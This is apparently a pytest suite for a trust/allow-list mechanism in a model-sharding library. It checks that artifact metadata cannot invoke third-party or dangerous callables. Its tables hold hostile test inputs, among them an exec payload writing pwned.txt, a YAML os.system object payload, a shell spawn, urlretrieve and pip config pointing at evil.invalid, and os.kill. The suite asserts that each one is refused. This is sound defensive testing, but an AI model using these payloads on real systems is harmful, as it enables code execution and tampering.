"""Trust by provenance (docs/trust.md, "Whose code an entry opens"): a module or subtree
entry opens only the program's own source, decided by where the import system finds the
package and how its distribution was installed; the always-refused list is a second line,
checked by each callable's real home.

Every test runs against both implementations (tests/implementations.py). Nothing refused
may run, import or write anything.
"""

from __future__ import annotations

import importlib
import importlib.machinery
import importlib.metadata
import json
import pkgutil
import site
import sys
import sysconfig
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from shardplan.artifact.meta import load_meta
from shardplan.convert import owners, trust
from shardplan.errors import MetaError, UntrustedTarget
from tests.implementations import use_both_implementations
from tests.trust_helpers import OKPKG_SOURCE, compute_fn, target_meta

impl: Any = None
implementation = use_both_implementations(__name__)

VICTIM = "victim.bin"
RUN = "open('pwned.txt', 'w').write('PWNED')"

# A package of someone else's, as its authors ship it: public callables that run what they
# are given (here: write pwned.txt), a submodule, and a module-level function.
THIRD_PARTY = {
    "__init__.py": "from .numpy_pickle import load, dump\n\n\ndef main(**kwargs):\n"
    "    open('pwned.txt', 'w').write('PWNED')\n",
    "numpy_pickle.py": "def load(**kwargs):\n    open('pwned.txt', 'w').write('PWNED')\n\n\n"
    "def dump(**kwargs):\n    open('pwned.txt', 'w').write('PWNED')\n\n\n"
    "def fine(**kwargs):\n    return ('fine', kwargs)\n",
}


def lay_out(
    folder: Path, name: str, version: str, direct_url: dict[str, Any] | None = None
) -> Path:
    """``name`` laid out in ``folder`` as ``pip install --target folder`` leaves it: the
    package, and its .dist-info with METADATA, RECORD, INSTALLER (and direct_url.json, as
    pip writes it for an install from a URL, a wheel file or a local folder)."""
    package = folder / name
    package.mkdir(parents=True)
    for file, source in THIRD_PARTY.items():
        (package / file).write_text(source)
    info = folder / f"{name}-{version}.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
    (info / "INSTALLER").write_text("pip\n")
    records = [f"{name}/{file},," for file in THIRD_PARTY]
    if direct_url is not None:
        (info / "direct_url.json").write_text(json.dumps(direct_url))
        records.append(f"{info.name}/direct_url.json,,")
    records += [f"{info.name}/{file},," for file in ("METADATA", "INSTALLER", "RECORD")]
    (info / "RECORD").write_text("\n".join(records) + "\n")
    return folder


@pytest.fixture
def victim(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """The working folder, holding one file to keep; afterwards it holds what the test laid
    out and that file, unchanged, and no pwned.txt."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "dont_write_bytecode", True)
    (tmp_path / VICTIM).write_bytes(b"keep\n")
    yield tmp_path
    assert not (tmp_path / "pwned.txt").exists()
    assert (tmp_path / VICTIM).read_bytes() == b"keep\n"


def on_path(monkeypatch: pytest.MonkeyPatch, folder: Path, *names: str) -> None:
    """``folder`` first on sys.path, ``names`` forgotten (now and after the test)."""
    monkeypatch.syspath_prepend(str(folder))
    for name in list(sys.modules):
        if name.split(".")[0] in names:
            monkeypatch.delitem(sys.modules, name)


# ------------------------------------------------------------------- the rule, as a rule

ENTRIES = ("thirdpkg", "thirdpkg.*", "thirdpkg.numpy_pickle", "thirdpkg.numpy_pickle.*")


@pytest.mark.parametrize(
    ("direct_url", "installed"),
    [
        (None, "from a package index"),
        ({"url": "file:///wheels/thirdpkg-1.0-py3-none-any.whl", "archive_info": {}}, "wheel"),
        ({"url": "https://git.example/thirdpkg", "vcs_info": {"vcs": "git"}}, "VCS URL"),
    ],
    ids=["index", "wheel", "vcs"],
)
def test_module_and_subtree_entries_over_an_installed_distribution_are_refused(
    victim: Path, monkeypatch: pytest.MonkeyPatch, direct_url: Any, installed: str
) -> None:
    """Laid out as pip install --target leaves it, outside every library folder and
    provided by a distribution from an index, a wheel file or a VCS URL: someone else's."""
    on_path(monkeypatch, lay_out(victim / "target", "thirdpkg", "1.0", direct_url), "thirdpkg")
    meta = target_meta({"_target_": "thirdpkg.numpy_pickle.fine"})
    before = set(sys.modules)
    for entry in ENTRIES:
        with pytest.raises(MetaError) as caught:
            impl.rebuild_live_plan_from_meta(meta, allow_targets=(entry,))
        message = str(caught.value)
        assert "thirdpkg is installed by thirdpkg 1.0" in message and installed in message
        assert "not the program's own code" in message and "my_callable" in message
    assert set(sys.modules) - before == set()


@pytest.mark.parametrize(
    "direct_url",
    [
        {"url": "file:///src/thirdpkg", "dir_info": {"editable": True}},
        {"url": "file:///src/thirdpkg", "dir_info": {}},
        "plain source",
    ],
    ids=["editable", "local-folder", "plain-source"],
)
def test_the_same_package_from_a_local_folder_or_as_plain_source_is_admitted_and_called(
    victim: Path, monkeypatch: pytest.MonkeyPatch, direct_url: Any
) -> None:
    folder = victim / "src"
    if direct_url == "plain source":
        (folder / "thirdpkg").mkdir(parents=True)
        for file, source in THIRD_PARTY.items():
            (folder / "thirdpkg" / file).write_text(source)
    else:
        lay_out(folder, "thirdpkg", "1.0", direct_url)
    on_path(monkeypatch, folder, "thirdpkg")
    meta = target_meta({"_target_": "thirdpkg.numpy_pickle.fine", "k": 1})
    for entry in ENTRIES[1:]:  # ("thirdpkg" admits the callables of thirdpkg itself only)
        plan = impl.rebuild_live_plan_from_meta(meta, allow_targets=(entry,))
        assert compute_fn(plan)() == ("fine", {"k": 1})


def test_a_setuptools_editable_finder_is_read_through_its_distribution(
    victim: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A package only an editable install's finder maps (its folder is not on sys.path):
    the program's own when its distribution came from a local folder (dir_info), someone
    else's otherwise."""
    source = victim / "checkout"
    (source / "thirdpkg").mkdir(parents=True)
    for file, text in THIRD_PARTY.items():
        (source / "thirdpkg" / file).write_text(text)
    for name, direct_url, admitted in [
        ("ownfinder", {"url": "file:///checkout", "dir_info": {"editable": True}}, True),
        ("indexfinder", None, False),
    ]:
        site_folder = victim / name
        site_folder.mkdir()
        finder = f"__editable___{name}_1_0_finder"
        (site_folder / f"{finder}.py").write_text(
            f"MAPPING = {{'thirdpkg': {str(source / 'thirdpkg')!r}}}\n\n\n"
            "class _EditableFinder:\n    @classmethod\n"
            "    def find_spec(cls, fullname, path=None, target=None):\n"
            "        import importlib.machinery\n"
            "        return importlib.machinery.PathFinder.find_spec(fullname, [MAPPING_ROOT])\n\n\n"
            f"MAPPING_ROOT = {str(source)!r}\n"
        )
        info = site_folder / f"{name}-1.0.dist-info"
        info.mkdir()
        (info / "RECORD").write_text(f"{finder}.py,,\n")
        if direct_url is not None:
            (info / "direct_url.json").write_text(json.dumps(direct_url))
        on_path(monkeypatch, site_folder, "thirdpkg")
        module = importlib.import_module(finder)
        monkeypatch.setattr(sys, "meta_path", [*sys.meta_path, module._EditableFinder])
        monkeypatch.syspath_prepend(str(victim))  # a new sys.path: asked afresh
        meta = target_meta({"_target_": "thirdpkg.numpy_pickle.fine"})
        if admitted:
            plan = impl.rebuild_live_plan_from_meta(meta, allow_targets=("thirdpkg.*",))
            assert compute_fn(plan)() == ("fine", {})
        else:
            with pytest.raises(MetaError, match="installed by indexfinder 1.0 from a package"):
                impl.rebuild_live_plan_from_meta(meta, allow_targets=("thirdpkg.*",))
        monkeypatch.setattr(sys, "meta_path", sys.meta_path[:-1])
        for loaded in [n for n in sys.modules if n.split(".")[0] == "thirdpkg"]:
            del sys.modules[loaded]


def test_a_package_nothing_found_when_the_list_was_read_is_asked_again_at_first_call(
    victim: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Admitted at rebuild while nothing provides it (the shared fixture's hyper_parallel);
    installed from an index before the first call, or still found nowhere: refused then,
    with nothing imported."""
    folder = victim / "later"
    folder.mkdir()
    on_path(monkeypatch, folder, "thirdpkg")
    meta = target_meta({"_target_": "thirdpkg.numpy_pickle.fine"})
    plan = impl.rebuild_live_plan_from_meta(meta, allow_targets=("thirdpkg.*",))
    with pytest.raises(UntrustedTarget, match="no path finder on sys.path"):
        compute_fn(plan)()
    lay_out(folder, "thirdpkg", "1.0")
    importlib.invalidate_caches()
    with pytest.raises(UntrustedTarget, match="thirdpkg is installed by thirdpkg 1.0 from a"):
        compute_fn(plan)()
    assert "thirdpkg" not in sys.modules


def library_tops() -> set[str]:
    """Every top-level module and package in the interpreter's library folders (the
    standard library's, every site-packages, the user site), read from the folders, that
    is imported from there (not shadowed by an earlier sys.path entry, such as this
    checkout's tests/); and every top-level name an installed distribution provides, read
    from its metadata."""
    paths = sysconfig.get_paths()
    folders = {paths[key] for key in ("stdlib", "platstdlib", "purelib", "platlib")}
    folders |= {*site.getsitepackages(), site.getusersitepackages()}
    folders |= {str(Path(paths["stdlib"]) / "lib-dynload")}
    tops = set()
    for folder in folders:
        for info in pkgutil.iter_modules([folder]):
            spec = importlib.machinery.PathFinder.find_spec(info.name)
            origin = spec and (spec.origin or next(iter(spec.submodule_search_locations or ())))
            if info.name.isidentifier() and origin and origin.startswith(folder):
                tops.add(info.name)
    for top in importlib.metadata.packages_distributions():
        if top.isidentifier():
            tops.add(top)
    return tops


def test_every_top_level_name_of_a_library_folder_or_an_installed_distribution_is_refused() -> (
    None
):
    tops = library_tops()
    assert {"test", "idlelib", "ensurepip", "pip", "sympy", "torch", "json"} <= tops
    assert len(tops) > 250  # the folders and the metadata were read, not a list
    before = set(sys.modules)
    admitted = [top for top in sorted(tops) if owners.library_of(top) is None]
    assert admitted == []
    for top in sorted(tops):
        if not top.startswith("_"):  # a private one is refused as private first
            with pytest.raises(MetaError, match="not the program's own code"):
                trust.allow_list((f"{top}.*",))
    assert set(sys.modules) - before == set()


# ---------------------------------------------------------- the two tables

# The first table: module and subtree entries that admitted a callable of someone else's,
# and the call that ran the artifact's Python, a command or a pickle, or rewrote a file.
BY_ENTRY: list[tuple[tuple[str, ...], str, dict[str, Any]]] = [
    (("test.*", "test.support"), "test.support.run_in_subinterp", {"code": RUN}),
    (
        ("pip", "pip.*"),
        "pip.main",
        {"args": ["config", "--site", "set", "global.index-url", "http://evil.invalid"]},
    ),
    (("joblib.*", "joblib.numpy_pickle"), "joblib.load", {"filename": VICTIM}),
]

# The second table: named exactly, each ran or wrote.
EXACT: list[tuple[str, dict[str, Any]]] = [
    ("sympy.sympify", {"a": f"__import__('builtins').exec({RUN!r})"}),
    ("sympy.parsing.sympy_parser.parse_expr", {"s": f"exec({RUN!r})"}),
    ("distutils.spawn.spawn", {"cmd": ["sh", "-c", "echo PWNED > pwned.txt"]}),
    ("yaml.unsafe_load", {"stream": "!!python/object/apply:os.system ['echo > pwned.txt']"}),
    ("torch.FloatStorage.from_file", {"filename": VICTIM, "shared": True, "size": 64}),
    ("torch.UntypedStorage.from_file", {"filename": VICTIM, "shared": True, "nbytes": 64}),
    ("gzip.open", {"filename": VICTIM, "mode": "wb"}),
    ("bz2.open", {"filename": VICTIM, "mode": "wb"}),
    ("lzma.open", {"filename": VICTIM, "mode": "wb"}),
    ("codecs.open", {"filename": VICTIM, "mode": "w"}),
    ("urllib.request.urlretrieve", {"url": "http://evil.invalid/x", "filename": VICTIM}),
    ("sqlite3.connect", {"database": "pwned.txt"}),
    ("dbm.open", {"file": "pwned.txt", "flag": "c"}),
    ("py_compile.compile", {"file": VICTIM, "cfile": "pwned.txt"}),
    ("compileall.compile_dir", {"dir": "."}),
    ("venv.create", {"env_dir": "pwned.txt"}),
    ("webbrowser.open", {"url": "http://evil.invalid"}),
    ("torch.export.load", {"f": VICTIM}),
    ("os.kill", {"pid": 0, "signal": 9}),
    ("os.abort", {}),
    ("sys.exit", {"status": 3}),
    ("joblib.load", {"filename": VICTIM}),
    ("pip.main", {"args": ["install", "--no-index", "./evil"]}),
]


def rows() -> list[tuple[tuple[str, ...], str, dict[str, Any]]]:
    """Every row of both tables, as (allow-lists, Target path, kwargs)."""
    return [*BY_ENTRY, *(((path,), path, kwargs) for path, kwargs in EXACT)]


def test_every_row_of_both_tables_is_refused_through_read_plan_the_pair_and_apply_plan(
    victim: Path, monkeypatch: pytest.MonkeyPatch, mesh: Any
) -> None:
    """As the issue ran it: the rule on model.layers.0.mlp of the example plan's artifact.
    Each allow-list is refused when reading starts (read_plan, load_meta + rebuild_plan,
    and the rebuild a trainer runs before apply_plan), naming whose code it is; nothing is
    imported, run or written."""
    from shardplan import apply_plan, read_plan
    from shardplan.examples.llama import LlamaConfig, LlamaForCausalLM
    from tests.trust_helpers import example_artifact_with

    on_path(monkeypatch, lay_out(victim / "site", "joblib", "1.4.2"), "joblib")
    model = LlamaForCausalLM(LlamaConfig(n_layers=1))
    artifact = victim / "codegen_meta.json"
    documents = []
    for entries, path, kwargs in rows():
        rule = {"match": "model.layers.0.mlp", "local_compute_fn": {"_target_": path, **kwargs}}
        documents.append((entries, path, example_artifact_with(rule)))
    # What reading and applying import of their own, first: a Target bound to the program's
    # own callable, admitted.
    warm = {"match": "model.layers.0.mlp", "local_compute_fn": {"_target_": "own.fn"}}
    artifact.write_text(json.dumps(example_artifact_with(warm)))
    bound = ({"own.fn": lambda *args, **kwargs: lambda module, *inputs: None},)
    apply_plan(model, impl.rebuild_plan(load_meta(artifact), allow_targets=bound), mesh)
    read_plan(artifact, allow_targets=bound)
    model = LlamaForCausalLM(LlamaConfig(n_layers=1))
    before = set(sys.modules)
    for entries, path, document in documents:
        artifact.write_text(json.dumps(document))
        for entry in entries:
            why = "would allow nothing" if entry == path else "not the program's own code"
            allow = (entry,)
            if impl.__name__ == "shardplan.api":
                with pytest.raises(MetaError, match=why):
                    read_plan(artifact, allow_targets=allow)
            with pytest.raises(MetaError, match=why):
                impl.rebuild_plan(load_meta(artifact), allow_targets=allow)
            with pytest.raises(MetaError, match=why) as caught:
                apply_plan(model, impl.rebuild_plan(load_meta(artifact), allow_targets=allow), mesh)
            if path == "joblib.load" and entry != path:
                assert "joblib is installed by joblib 1.4.2 from a package index" in str(
                    caught.value
                )
    artifact.unlink()
    assert set(sys.modules) - before == set()


# ------------------------------------------------------ the second line, by real home

# A public path of each family, whose callable lives elsewhere: a package of the program's
# own re-exports it as ``keep``, and the program's own entries admit that alias at rebuild.
REAL_HOMES = [
    ("from sympy import sympify as keep", "sympy.core.sympify.sympify"),
    ("from sympy.parsing import parse_expr as keep", "sympy.parsing.sympy_parser.parse_expr"),
    ("from torch import FloatStorage\nkeep = FloatStorage.from_file", "torch.storage.TypedStorage.from_file"),
    ("from sqlite3 import connect as keep", "_sqlite3.connect"),
    ("from os import kill as keep", "posix.kill"),
    ("from os import _exit as keep", "posix._exit"),
    ("from gzip import open as keep", "gzip.open"),
    ("from torch.export import load as keep", "torch.export.load"),
]


@pytest.mark.parametrize(("line", "real_name"), REAL_HOMES, ids=[r for _, r in REAL_HOMES])
def test_a_re_export_of_an_always_refused_callable_is_refused_by_its_real_home(
    victim: Path, monkeypatch: pytest.MonkeyPatch, line: str, real_name: str
) -> None:
    (victim / "okpkg.py").write_text(f"{OKPKG_SOURCE}{line}\n")
    on_path(monkeypatch, victim, "okpkg")
    meta = target_meta({"_target_": "okpkg.keep"})
    for entry in ("okpkg", "okpkg.*", "okpkg.keep"):
        plan = impl.rebuild_live_plan_from_meta(meta, allow_targets=(entry,))
        with pytest.raises(UntrustedTarget, match="always refused") as caught:
            compute_fn(plan)()
        assert caught.value.real_name == real_name
        assert trust.refused_name(real_name) is not None
    (victim / "okpkg.py").unlink()
